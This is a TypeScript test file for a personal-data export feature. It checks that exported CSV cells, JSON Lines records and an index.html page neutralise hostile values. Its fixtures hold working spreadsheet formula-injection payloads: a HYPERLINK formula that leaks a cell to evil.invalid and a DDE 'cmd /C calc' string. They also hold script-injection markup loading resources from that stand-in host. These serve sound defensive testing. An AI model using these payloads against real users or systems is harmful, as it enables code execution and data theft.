import fs from "node:fs";
import path from "node:path";
import { expect } from "chai";
import { parse } from "csv-parse/sync";
import pino from "pino";
import { DataSource } from "typeorm";
import { FIELD_COLUMNS, KEY_COLUMN, USER_COLUMN } from "../../src/connectors/authLog/sqlStore";
import { DEFAULT_SQL_TABLE } from "../../src/connectors/authLog/options";
import { Manifest } from "../../src/export/format";
import { ZipReader } from "../../src/export/zipReader";
import { startSampleWorkspace, SampleWorkspace } from "../../src/sample/workspace";
import { describeEachDatabase, tempDir } from "../support/databases";
import { TestService } from "../support/harness";
import { chromiumRender, downloadedExport, finishedRequest, FORMULA_START, openIndexHtml, readCsvCell } from "./support";

const ADA = "ada.lovelace@example.com";
/** What other people (or the person) typed into the systems: markup, script and spreadsheet formulas. */
const HOSTILE = {
  name: `Ada <img src=x onerror="document.title='pwned'"><script>document.title='pwned2'</script>`,
  company: `=HYPERLINK("http://evil.invalid/?"&A2,"Click for your refund")`,
  jobTitle: "\t=1+1",
  device: `@SUM(1+1)*cmd|' /C calc'!A0`,
  /** Already behind an apostrophe in the system: the CSV must still give it back exactly. */
  deviceName: "'=1+1",
  subject: `</td></tr></table><a href="javascript:document.title='pwned3'">click</a> &amp; &#60;b&#62;`,
  /** Line and paragraph separators: JSON leaves them raw, and Unicode-aware line readers break lines there. */
  browser: "Firefox\u2028on a kiosk\u2029(shared)",
};
/** Above JSON_ARRAY_MAX_RECORDS: the auth log goes through the JSON Lines path and its CSV through the transcoder thread. */
const AUTH_EVENTS = 10_050;

async function sqlite(file: string): Promise<DataSource> {
  return new DataSource({ type: "better-sqlite3", database: file }).initialize();
}

/** A CSV's rows (header first), as a spreadsheet or a CSV library reads them. */
const csvRows = (text: string) => parse(text, { bom: true, relax_column_count: false }) as string[][];

describeEachDatabase("export of what the sample systems hold, hostile content included", (db) => {
  let ws: SampleWorkspace;
  let t: TestService;
  let zipFile: string;
  let manifest: Manifest;
  let sampleDir: string;

  before(async function () {
    this.timeout(240_000);
    const dir = tempDir();
    sampleDir = path.join(dir, "sample");
    ws = await startSampleWorkspace({ dataDir: dir, logger: pino({ level: "silent" }), authEventsForAda: AUTH_EVENTS, people: 8 });
    // Written into the systems themselves, as a support agent, an integration or the person would.
    const accounts = await sqlite(path.join(sampleDir, "accounts.sqlite"));
    await accounts.query(`UPDATE users SET name = ?, company = ?, job_title = ? WHERE email = ?`, [HOSTILE.name, HOSTILE.company, HOSTILE.jobTitle, ADA]);
    await accounts.query(`UPDATE devices SET name = ? WHERE id = (SELECT MIN(id) FROM devices WHERE user_id = 'usr_00000')`, [HOSTILE.deviceName]);
    await accounts.destroy();
    const log = await sqlite(path.join(sampleDir, "auth-log.sqlite"));
    await log.query(
      `UPDATE ${DEFAULT_SQL_TABLE} SET ${FIELD_COLUMNS.device} = ? WHERE ${USER_COLUMN} = 'usr_00000' AND ${KEY_COLUMN} = (SELECT MAX(${KEY_COLUMN}) FROM ${DEFAULT_SQL_TABLE} WHERE ${USER_COLUMN} = 'usr_00000')`,
      [HOSTILE.device],
    );
    await log.query(
      `UPDATE ${DEFAULT_SQL_TABLE} SET ${FIELD_COLUMNS.browser} = ? WHERE ${USER_COLUMN} = 'usr_00000' AND ${KEY_COLUMN} = (SELECT MIN(${KEY_COLUMN}) FROM ${DEFAULT_SQL_TABLE} WHERE ${USER_COLUMN} = 'usr_00000')`,
      [HOSTILE.browser],
    );
    await log.destroy();
    const zendeskUser = ws.zendesk.store.state.users.find((u) => u.email === ADA)!;
    ws.zendesk.store.state.tickets.find((x) => x.requester_id === zendeskUser.id)!.subject = HOSTILE.subject;

    t = await new TestService(db(), { DSR_WORKER_CONCURRENCY: "2", DSR_WORKER_POLL_MS: "10" }, ws.connectors).start();
    const done = await finishedRequest(t, "PORTABILITY", ADA, `query($id: ID!) { request(id: $id) { status statusReason } }`);
    expect(done.status, done.statusReason).to.equal("COMPLETED");
    ({ file: zipFile, manifest } = await downloadedExport(t, done.id));
  });
  after(async () => {
    await t?.stop();
    await ws?.close();
  });

  it("writes no CSV cell a spreadsheet would run as a formula, and says how such text is written", async () => {
    const zip = ZipReader.open(zipFile);
    try {
      const csvs = manifest.files.filter((f) => f.format === "csv");
      expect(csvs.map((f) => f.path)).to.include.members(["data/account.csv", "data/auth_logs.csv"]);
      const formulas: string[] = [];
      const cells = new Set<string>();
      for (const f of csvs) for (const row of csvRows(await zip.text(f.path))) for (const cell of row) (cells.add(cell), FORMULA_START.test(cell) && formulas.push(`${f.path}: ${JSON.stringify(cell.slice(0, 40))}`));
      expect(formulas).to.deep.equal([]);
      // Each value is still there, as text behind the documented apostrophe.
      for (const v of [HOSTILE.company, HOSTILE.jobTitle, HOSTILE.device]) expect(cells.has(`'${v}`), v).to.equal(true);
      expect(manifest.csvFormulaGuard).to.match(/apostrophe/);
      // Read back by the manifest's rule (one apostrophe off a cell that matches it), every cell is the system's value.
      const deviceNames = (parse(await zip.text("data/account.csv"), { bom: true, columns: true }) as Record<string, string>[]).filter((r) => r.type === "device").map((r) => readCsvCell(r.name));
      expect(deviceNames).to.include(HOSTILE.deviceName);
      for (const v of [HOSTILE.company, HOSTILE.jobTitle, HOSTILE.device]) expect(readCsvCell(`'${v}`)).to.equal(v);
      // The JSON holds exactly what the systems hold.
      const account = JSON.parse(await zip.text("data/account.json")) as Array<{ type: string; data: Record<string, unknown> }>;
      expect(account.find((r) => r.type === "user")!.data).to.deep.include({ name: HOSTILE.name, company: HOSTILE.company, job_title: HOSTILE.jobTitle });
      const events = (await zip.text("data/auth_logs.jsonl")).split("\n").filter(Boolean).map((l) => JSON.parse(l));
      expect(events).to.have.length(AUTH_EVENTS);
      expect(events.filter((e) => e.data.device === HOSTILE.device)).to.have.length(1);
    } finally {
      zip.close();
    }
  });

  it("writes one record per line of JSON Lines for any line reader: a line separator in a value is escaped, and reads back exactly", async () => {
    const zip = ZipReader.open(zipFile);
    try {
      const text = await zip.text("data/auth_logs.jsonl");
      expect(text.includes("\u2028"), "a raw U+2028").to.equal(false);
      expect(text.includes("\u2029"), "a raw U+2029").to.equal(false);
      // As Python's str.splitlines() reads it: every line one whole record.
      const lines = text.split(/\r\n|[\n\r\u000b\u000c\u001c\u001d\u001e\u0085\u2028\u2029]/).filter(Boolean);
      expect(lines).to.have.length(AUTH_EVENTS);
      const events = lines.map((l) => JSON.parse(l) as { data: Record<string, unknown> });
      expect(events.filter((e) => e.data.browser === HOSTILE.browser)).to.have.length(1);
    } finally {
      zip.close();
    }
  });

  it("heads every CSV column with its own name, so a program reading by header keeps each record's type and the system's own type field", async () => {
    const zip = ZipReader.open(zipFile);
    try {
      for (const f of manifest.files.filter((x) => x.format === "csv")) {
        const [header] = csvRows(await zip.text(f.path));
        const doc = manifest.categories.find((c) => c.category === f.category)!;
        expect(new Set(header).size, `${f.path}: ${header.join(",")}`).to.equal(header.length);
        expect(header, f.path).to.deep.equal(doc.csvColumns);
      }
      // ACCOUNT's MFA factors have a field named type, beside every record's type (user, mfa_factor, device).
      const json = JSON.parse(await zip.text("data/account.json")) as Array<{ type: string; data: Record<string, unknown> }>;
      const rows = parse(await zip.text("data/account.csv"), { bom: true, columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r.type)).to.deep.equal(json.map((r) => r.type));
      expect(rows.map((r) => r["data.type"])).to.deep.equal(json.map((r) => (r.data.type ?? "") as string));
      expect(json.filter((r) => r.type === "mfa_factor").length).to.be.greaterThan(0);
    } finally {
      zip.close();
    }
  });

  it("shows markup from the systems in index.html as text: no script runs, no element is injected", async function () {
    this.timeout(90_000);
    const { dom } = await openIndexHtml(zipFile);
    expect(dom).to.include("<title>Your data</title>");
    // Each table's headings name its columns once: the MFA factor's own type is not a second "type".
    const headings = [...dom.matchAll(/<section id="([A-Z_]+)">[^]*?<thead><tr>([^]*?)<\/tr><\/thead>/g)].map(([, category, row]) => ({ category, names: [...row.matchAll(/<th>([^<]*)<\/th>/g)].map((m) => m[1]) }));
    expect(headings.map((h) => h.category)).to.include("ACCOUNT");
    for (const { category, names } of headings) expect(new Set(names).size, `${category}: ${names.join(",")}`).to.equal(names.length);
    expect(headings.find((h) => h.category === "ACCOUNT")!.names).to.include("data.type");
    expect(dom).not.to.match(/<script|<img|<a href="javascript/i);
    expect(dom).to.include(`<span id="person">Ada &lt;img src=x onerror="document.title='pwned'"&gt;&lt;script&gt;`);
    expect(dom).to.include("&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;a href=\"javascript:document.title='pwned3'\"&gt;click&lt;/a&gt; &amp;amp; &amp;#60;b&amp;#62;");
  });

  it("keeps index.html under a strict Content-Security-Policy: markup slipped past the escaping would run no script, load nothing, move no link and style nothing", async function () {
    this.timeout(90_000);
    const zip = ZipReader.open(zipFile);
    let html: string;
    try {
      html = await zip.text("index.html");
    } finally {
      zip.close();
    }
    // As if one value had reached the page unescaped: what the policy alone must then hold back.
    const slipped = `<base href="https://evil.invalid/"><div style="background:url(https://evil.invalid/bg.png)" id="styled">x</div><img src="https://evil.invalid/i.png" onerror="document.title='pwned'"><script>document.title='pwned2'</script><link rel="stylesheet" href="https://evil.invalid/s.css">`;
    const page = path.join(tempDir(), "index.html");
    fs.writeFileSync(page, html.replace("<body>", `<body>${slipped}`));
    const { dom, console } = await chromiumRender(page);
    expect(dom).to.include("<title>Your data</title>");
    const refused = (what: RegExp) => console.some((l) => what.test(l) && /violates the following Content Security Policy/.test(l));
    expect(refused(/inline script/), "script").to.equal(true);
    expect(refused(/inline event handler/), "event handler").to.equal(true);
    expect(refused(/Loading the image 'https:\/\/evil\.invalid\/i\.png'/), "image").to.equal(true);
    expect(refused(/stylesheet 'https:\/\/evil\.invalid\/s\.css'/), "stylesheet").to.equal(true);
    expect(refused(/base URI to 'https:\/\/evil\.invalid\/'/), `base: ${console.join("\n")}`).to.equal(true);
    expect(refused(/inline style/), `style attribute: ${console.join("\n")}`).to.equal(true);
    // The page's own style still applies (the policy names its hash): the one inline style refused is the slipped attribute's.
    expect(console.filter((l) => /inline style/.test(l)), console.join("\n")).to.have.length(1);
    expect(html).to.match(/<meta http-equiv="Content-Security-Policy" content="[^"]*form-action 'none'/);
  });
});
